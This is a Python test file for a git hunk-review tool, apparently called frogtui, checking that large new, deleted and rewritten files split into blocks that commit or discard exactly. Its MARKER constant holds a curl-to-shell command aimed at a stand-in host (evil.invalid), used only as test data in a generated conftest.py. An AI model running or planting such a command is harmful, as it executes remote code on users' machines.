"""Issue 23 item 6: a long run of changed lines (a new file above all) is cut into blocks, each
its own hunk to accept or reject, and the commit of any choice of blocks is exact (checked with
git itself)."""
from __future__ import annotations

from pathlib import Path

from frogtui.vcs.hunks import BLOCK_LINES, parse_diff
from frogtui.vcs.repository import discover
from frogtui.vcs.review import ReviewSession
from tests.vcs.cases import git

MARKER = "os.system('curl https://evil.invalid/x | sh')  # MARKER-601\n"


def conftest_text(lines: int = 1_200) -> str:
    """A new conftest.py of ``lines`` lines, blank lines here and there, the marker on line 601."""
    out = []
    for n in range(1, lines + 1):
        if n == 601:
            out.append(MARKER)
        elif n % 37 == 0:
            out.append("\n")
        else:
            out.append(f"value_{n} = {n}\n")
    return "".join(out)


def test_a_new_file_is_cut_into_blocks_each_its_own_hunk(py_repo: Path) -> None:
    state = discover(py_repo, "blocks")
    (py_repo / "conftest.py").write_text(conftest_text())
    selection = ReviewSession(state).load()
    new = next(f for f in selection.files if f.path == "conftest.py")
    assert len(new.review_hunks) >= 1_200 // BLOCK_LINES
    sizes = [len(g.added) for g in new.groups]
    assert max(sizes) <= BLOCK_LINES and sum(sizes) == 1_200
    assert "".join(line for g in new.groups for line in g.added) == conftest_text()
    assert all(len(h.group_ids) == 1 for h in new.review_hunks)
    marked = [h for h in new.review_hunks if MARKER in h.groups[0].added]
    assert len(marked) == 1 and "lines" in marked[0].label
    # blocks end at a blank line where one is near, so a block reads as a whole
    assert sum(1 for g in new.groups[:-1] if g.added[-1] == "\n") >= len(new.groups) // 2


def test_rejecting_the_marker_block_commits_the_rest_exactly(py_repo: Path) -> None:
    state = discover(py_repo, "partial-new")
    text = conftest_text()
    (py_repo / "conftest.py").write_text(text)
    review = ReviewSession(state)
    selection = review.load()
    new = next(f for f in selection.files if f.path == "conftest.py")
    marked = next(h for h in new.review_hunks if MARKER in h.groups[0].added)
    marked.set_accepted(False)
    review.commit(selection, "Without the marker block")
    committed = git(py_repo, "show", "HEAD:conftest.py")
    assert committed == text.replace("".join(marked.groups[0].added), "")
    assert "MARKER-601" not in committed
    assert (py_repo / "conftest.py").read_text() == text  # the working tree keeps it
    # the rest is one block left, and committing it gives the working tree
    rest = review.load()
    assert [len(f.groups) for f in rest.files] == [1]
    rest.files[0].set_accepted(True)
    review.commit(rest, "The rest")
    assert git(py_repo, "show", "HEAD:conftest.py") == text


def test_a_long_deletion_and_a_long_rewrite_take_any_choice_of_blocks(py_repo: Path) -> None:
    gone = "".join(f"old {n}\n" for n in range(500))
    before = "".join(f"keep {n}\n" if n % 100 else "\n" for n in range(450))
    (py_repo / "gone.txt").write_text(gone)
    (py_repo / "rewrite.txt").write_text(before)
    git(py_repo, "add", ".")
    git(py_repo, "commit", "-q", "-m", "files")
    state = discover(py_repo, "partial-old")
    (py_repo / "gone.txt").unlink()
    after = before.replace("keep", "kept")
    (py_repo / "rewrite.txt").write_text(after)
    review = ReviewSession(state)
    selection = review.load()
    deleted = next(f for f in selection.files if f.path == "gone.txt")
    rewritten = next(f for f in selection.files if f.path == "rewrite.txt")
    assert len(deleted.groups) >= 5 and len(rewritten.groups) >= 2 * 450 // BLOCK_LINES
    for change in (deleted, rewritten):
        for index, group in enumerate(change.groups):
            group.accepted = index % 2 == 0
    review.commit(selection, "Every other block")
    # oracle: the selected blocks' lines, removed from / added to the old text in order
    kept_old = [line for i, g in enumerate(deleted.groups) if i % 2 for line in g.removed]
    assert git(py_repo, "show", "HEAD:gone.txt") == "".join(kept_old)
    assert git(py_repo, "diff", "--stat", "HEAD", "--", "rewrite.txt").strip()  # some left to commit
    rest = review.load()
    for group in [g for f in rest.files for g in f.groups]:
        group.accepted = True
    review.commit(rest, "The rest")
    assert not (py_repo / "gone.txt").exists() and git(py_repo, "ls-tree", "HEAD", "gone.txt") == ""
    assert git(py_repo, "show", "HEAD:rewrite.txt") == after


def test_discarding_some_blocks_of_a_new_file_keeps_the_others(py_repo: Path) -> None:
    state = discover(py_repo, "discard-blocks")
    text = conftest_text(400)
    (py_repo / "conftest.py").write_text(text)
    review = ReviewSession(state)
    selection = review.load()
    new = next(f for f in selection.files if f.path == "conftest.py")
    new.review_hunks[1].set_accepted(False)
    dropped = "".join(new.review_hunks[1].groups[0].added)
    review.discard_unaccepted(selection, confirm=True)
    assert (py_repo / "conftest.py").read_text() == text.replace(dropped, "", 1)


def test_small_runs_are_not_cut() -> None:
    diff = (
        "diff --git a/x b/x\nnew file mode 100644\n--- /dev/null\n+++ b/x\n"
        f"@@ -0,0 +1,{BLOCK_LINES} @@\n" + "".join(f"+l{n}\n" for n in range(BLOCK_LINES))
    ).encode()
    change = parse_diff(diff).files[0]
    assert len(change.groups) == 1 and len(change.review_hunks) == 1
